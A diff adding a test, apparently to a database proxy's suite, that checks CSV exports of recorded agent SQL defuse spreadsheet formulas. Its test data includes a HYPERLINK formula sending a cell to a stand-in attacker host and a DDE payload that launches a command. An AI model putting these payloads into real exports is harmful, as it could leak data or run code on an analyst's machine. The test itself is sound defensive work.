@@ -7,7 +7,9 @@ import { suite } from '../harness/suite.js';
 import * as assert from 'uvu/assert';
 import { createHmac } from 'node:crypto';
 import { connect } from 'node:net';
+import pg from 'pg';
 import { startEmbeddedAgate, type EmbeddedAgate } from '../harness/embedded-agate.js';
+import { until } from '../harness/until.js';
 
 interface Ctx extends EmbeddedAgate {
   analyst: string;
@@ -114,6 +116,33 @@ test('a client sending its headers a byte at a time is cut off at the login dead
   socket.destroy();
   assert.ok(closed, 'the connection was still open after 30 s');
   assert.ok(Date.now() - started < 15_000, `closed only after ${Date.now() - started} ms`);
+});
+
+test('command text an agent wrote as a spreadsheet formula reaches the analyst\'s CSV as text, never as a formula', async (ctx) => {
+  const formulas = ['=HYPERLINK("http://attacker.invalid/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '@SUM(1)', '-2+3'];
+  const token = await ctx.issuer.mint({ sub: 'agent-csv', repository: 'acme/app' });
+  const client = new pg.Client({ host: '127.0.0.1', port: ctx.agate.postgres.port, database: 'appdb', user: 'agent', password: token });
+  await client.connect();
+  try {
+    for (const f of formulas) await client.query(`SELECT 1 AS "${f.replace(/"/g, '""')}"`).catch(() => undefined);
+    // A text that starts like one: the statement itself, as the record keeps it.
+    await client.query('-- =1+1\nSELECT 2');
+  } finally {
+    await client.end();
+  }
+  const sql = "SELECT text FROM agate.commands WHERE subject = 'agent-csv' ORDER BY text";
+  const csv = await until('the statements recorded', async () => {
+    const r = await fetch(`${ctx.base}/v1/sql?format=csv`, { method: 'POST', headers: { authorization: `Bearer ${ctx.analyst}`, 'content-type': 'application/json' }, body: JSON.stringify({ sql }) });
+    const text = await r.text();
+    return r.status === 200 && text.split('\r\n').length >= formulas.length + 3 ? text : undefined;
+  });
+  // Every cell (after the header) that a spreadsheet would evaluate starts with an apostrophe instead.
+  const cells = csv.split('\r\n').slice(1).filter((l) => l !== '').map((l) => l.replace(/^"|"$/g, ''));
+  for (const cell of cells) assert.not.match(cell, /^[=+\-@\t\r]/, cell);
+  assert.ok(cells.some((c) => c.startsWith("'-- =1+1")), cells.join('\n'));
+  // Numbers keep their sign, in CSV as in JSON.
+  const n = await fetch(`${ctx.base}/v1/sql?format=csv`, { method: 'POST', headers: { authorization: `Bearer ${ctx.analyst}`, 'content-type': 'application/json' }, body: JSON.stringify({ sql: 'SELECT -5 AS a, toInt64(-7) AS b, -1.5 AS c' }) });
+  assert.is(await n.text(), 'a,b,c\r\n-5,-7,-1.5\r\n');
 });
 
 test.run();
